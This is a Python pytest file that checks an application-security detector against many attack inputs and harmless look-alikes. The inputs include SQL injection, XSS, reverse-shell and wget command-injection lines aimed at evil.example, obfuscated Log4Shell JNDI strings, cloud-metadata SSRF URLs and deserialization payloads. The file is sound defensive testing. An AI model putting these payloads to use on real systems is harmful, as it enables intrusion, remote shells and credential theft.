"""Every detection class, with attacks that must be found and look-alikes that must pass."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from cloudward.appsec.detectors import classify_host, find_jndi, parse_ip
from tests.appsec.conftest import Judge, q, rules_of

BENIGN = [
    "O'Reilly",
    "select a book",
    "Tom & Jerry",
    "hello world",
    "john.doe@example.com",
    "make money fast",
    "price: 5-10 EUR",
    "C'est la vie",
    "2024-01-01",
    "I'd like to order 3 items; thanks!",
    "Union of European Football Associations",
    "drop me a line",
    "Where is my order #1234?",
    "see https://docs.python.org/3/library/ipaddress.html",
    "a < b and c > d",
]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_values_pass(judge: Judge, value: str) -> None:
    assert judge(q(value)) == []


@pytest.mark.parametrize(
    "value",
    [
        "1' OR '1'='1",
        "1 union select password from users",
        "x'; drop table users--",
        "1 AND SLEEP(5)",
        "admin'--",
        "1' AND 1=1 UNION ALL SELECT NULL,NULL--",
    ],
)
def test_sqli(judge: Judge, value: str) -> None:
    assert "appsec.sqli" in rules_of(judge(q(value)))


def test_sqli_double_encoded_and_in_json(judge: Judge) -> None:
    double = quote(quote("1' OR '1'='1", safe=""), safe="")
    assert ("appsec.sqli", "args:id") in judge(f"id={double}")
    found = judge(body=b'{"user": {"name": "x\' UNION SELECT pass FROM users--"}}', content_type="application/json")
    assert ("appsec.sqli", "json:user.name") in found


@pytest.mark.parametrize(
    "value",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "<svg/onload=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    ],
)
def test_xss(judge: Judge, value: str) -> None:
    assert "appsec.xss" in rules_of(judge(q(value)))


@pytest.mark.parametrize(
    "value",
    [
        "; cat /etc/passwd",
        "| nc 10.0.0.1 4444 -e /bin/sh",
        "$(whoami)",
        "`id`",
        "x && wget http://evil.example/x.sh",
        "c'a't /etc/shadow",
        "a;bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        "cmd.exe /c dir",
    ],
)
def test_command_injection(judge: Judge, value: str) -> None:
    assert "appsec.cmdi" in rules_of(judge(q(value, "host")))


def test_shellshock_header(judge: Judge) -> None:
    assert ("appsec.shellshock", "header:user-agent") in judge(headers=[("user-agent", "() { :; }; /bin/bash -c id")])


@pytest.mark.parametrize(
    "value",
    [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts",
        "....//....//etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        "..\\..\\windows\\win.ini",
        "/home/app/.aws/credentials",
    ],
)
def test_path_traversal_and_lfi(judge: Judge, value: str) -> None:
    assert "appsec.lfi" in rules_of(judge(q(value, "file")))


def test_lfi_negatives(judge: Judge) -> None:
    for value in ("reports/2024/q1.pdf", "v1.2.3", "a.b.c", "C:/Users/me/file.txt", "/etc"):
        assert "appsec.lfi" not in rules_of(judge(q(value, "file"))), value


@pytest.mark.parametrize(
    ("query", "found"),
    [
        (q("http://203.0.113.9/shell.txt", "page"), True),
        (q("https://evil.example/shell.txt?", "x"), True),
        (q("http://evil.example/inc.php", "include"), True),
        (q("https://docs.example.com/guide", "ref"), False),
        (q("about-us", "page"), False),
    ],
)
def test_rfi(judge: Judge, query: str, found: bool) -> None:
    assert ("appsec.rfi" in rules_of(judge(query))) is found


METADATA_SPELLINGS = [
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "0xA9.0xFE.0xA9.0xFE",
    "0251.0376.0251.0376",
    "169.254.43518",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[fd00:ec2::254]",
    "metadata.google.internal",
    "169.254.169.254.nip.io",
]


@pytest.mark.parametrize("host", METADATA_SPELLINGS)
def test_ssrf_metadata_every_spelling(judge: Judge, host: str) -> None:
    assert classify_host(host) == "metadata"
    found = judge(q(f"http://{host}/latest/meta-data/iam/security-credentials/", "url"))
    assert ("appsec.ssrf_metadata", "args:url") in found
    # with user info in front, in a parameter with an innocent name, and URL-encoded twice
    assert "appsec.ssrf_metadata" in rules_of(judge(q(f"http://user@{host}:80/", "data")))
    assert "appsec.ssrf_metadata" in rules_of(judge("u=" + quote(quote(f"http://{host}/", safe=""), safe="")))


def test_ssrf_bare_host_only_in_url_parameters(judge: Judge) -> None:
    assert "appsec.ssrf_metadata" in rules_of(judge(q("2852039166", "url")))
    assert judge(q("2852039166", "order_id")) == []  # a number is not an address by itself


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ("http://127.0.0.1:6379/", "appsec.ssrf_internal"),
        ("http://localhost/admin", "appsec.ssrf_internal"),
        ("http://10.1.2.3/", "appsec.ssrf_internal"),
        ("http://0/", "appsec.ssrf_internal"),
        ("http://[::1]/", "appsec.ssrf_internal"),
        ("gopher://evil.example:70/_x", "appsec.ssrf_internal"),
        ("http://017700000001/", "appsec.ssrf_internal"),
    ],
)
def test_ssrf_internal(judge: Judge, value: str, rule: str) -> None:
    assert rule in rules_of(judge(q(value, "webhook")))


def test_ssrf_public_urls_pass(judge: Judge) -> None:
    for value in ("https://example.com/a.png", "http://93.184.216.34/", "https://8.8.8.8/dns"):
        assert not {"appsec.ssrf_internal", "appsec.ssrf_metadata"} & rules_of(judge(q(value, "url"))), value


def test_parse_ip_forms() -> None:
    assert str(parse_ip("2852039166")) == "169.254.169.254"
    assert str(parse_ip("0xa9.254.0251.0xfe")) == "169.254.169.254"
    assert str(parse_ip("127.1")) == "127.0.0.1"
    assert parse_ip("256.1.1.1") is None
    assert parse_ip("example.com") is None
    assert parse_ip("1.2.3.4.5") is None
    assert parse_ip("99999999999") is None


@pytest.mark.parametrize(
    "value",
    [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://e.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://e.example/x}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://e.example/}",
        "${j${upper:n}di:dns://e.example}",
        "${env:AWS_SECRET_ACCESS_KEY}",
    ],
)
def test_jndi(judge: Judge, value: str) -> None:
    assert find_jndi([value]) is not None
    assert ("appsec.jndi", "header:x-api-version") in judge(headers=[("x-api-version", value)])


def test_jndi_negatives() -> None:
    assert find_jndi(["price is ${price}", "{jndi}", "$ {lower:j}"]) is None


@pytest.mark.parametrize(
    "value",
    [
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
        "aced0005737200",
        'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
        "gASVJgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU",
        "cos\nsystem\n(S'id'\ntR.",
        "!!python/object/apply:os.system ['id']",
    ],
)
def test_deserialization(judge: Judge, value: str) -> None:
    assert "appsec.deserialization" in rules_of(judge(q(value, "state")))


def test_deserialization_negatives(judge: Judge) -> None:
    for value in ("Oliver: 8 apples", "a:1 b:2", "ROOM-42", "base64 looks like aGVsbG8="):
        assert "appsec.deserialization" not in rules_of(judge(q(value, "state"))), value


def test_open_redirect(judge: Judge) -> None:
    assert "appsec.open_redirect" in rules_of(judge(q("https://evil.example/login", "next")))
    assert "appsec.open_redirect" in rules_of(judge(q("//evil.example", "return_to")))
    assert "appsec.open_redirect" in rules_of(judge(q("/\\evil.example", "redirect")))
    assert judge(q("/account/orders", "next")) == []
    assert judge(q("https://shop.example/cart", "next")) == []  # the request's own host
    assert judge(q("https://evil.example/", "comment")) == []  # not a redirect parameter


@pytest.mark.parametrize(
    "agent",
    [
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0)",
    ],
)
def test_scanner_user_agents(judge: Judge, agent: str) -> None:
    assert ("appsec.scanner", "header:user-agent") in judge(headers=[("user-agent", agent)])


def test_ordinary_user_agents_pass(judge: Judge) -> None:
    for agent in (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
        "curl/8.5.0",
        "python-httpx/0.27.0",
    ):
        assert judge(headers=[("user-agent", agent)]) == [], agent


def test_cookies_and_header_locations(judge: Judge) -> None:
    found = judge(headers=[("cookie", "theme=dark; pref=1' OR '1'='1")])
    assert ("appsec.sqli", "cookie:pref") in found


def test_multipart_fields_and_filenames(judge: Judge) -> None:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="note"\r\n\r\n<script>alert(1)</script>\r\n'
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\nContent-Type: text/plain\r\n\r\n'
        b"hello\r\n--b--\r\n"
    )
    found = judge(body=body, content_type="multipart/form-data; boundary=b", method="POST")
    assert ("appsec.xss", "multipart:note") in found
    assert ("appsec.upload_script", "filename:f") in found


def test_eicar_upload(judge: Judge) -> None:
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    body = b'--b\r\nContent-Disposition: form-data; name="doc"; filename="a.txt"\r\n\r\n' + eicar + b"\r\n--b--\r\n"
    assert ("appsec.upload_eicar", "file:doc") in judge(
        body=body, content_type="multipart/form-data; boundary=b", method="POST"
    )
    harmless = body.replace(b"EICAR", b"EICAX")
    assert judge(body=harmless, content_type="multipart/form-data; boundary=b", method="POST") == []


def test_base64_only_where_marked(inspector) -> None:  # type: ignore[no-untyped-def]
    from cloudward.appsec.policy import Policy, RoutePolicy
    from cloudward.appsec.request import HttpRequest

    payload = "MScgT1IgJzEnPScx"  # base64 of 1' OR '1'='1
    request = HttpRequest("GET", "/import", f"data={payload}", [("host", "x")])
    plain = Policy(mode="block").for_request("GET", "/import")
    marked = Policy(mode="block", routes=[RoutePolicy("/import", base64=("args:data",))]).for_request("GET", "/import")
    assert inspector.inspect(request, plain).detections == []
    assert [d.rule_id for d in inspector.inspect(request, marked).detections] == ["appsec.sqli"]


def test_rules_are_valid_and_use_real_attack_ids() -> None:
    import json
    from pathlib import Path

    from cloudward.appsec import load_appsec_rules

    rules = load_appsec_rules()
    assert len(rules) >= 15
    mitre = Path(__file__).resolve().parents[2].parent / "shared/corpora/mitre-attack"
    known: set[str] = set()
    for path in mitre.rglob("*.json"):
        text = path.read_text()
        known.update(__import__("re").findall(r'"(T\d{4}(?:\.\d{3})?)"', text))
    assert known, "the ATT&CK corpus is missing"
    for rule in rules:
        for technique in rule.attack:
            assert technique in known, (rule.id, technique)
    json.dumps([r.id for r in rules])
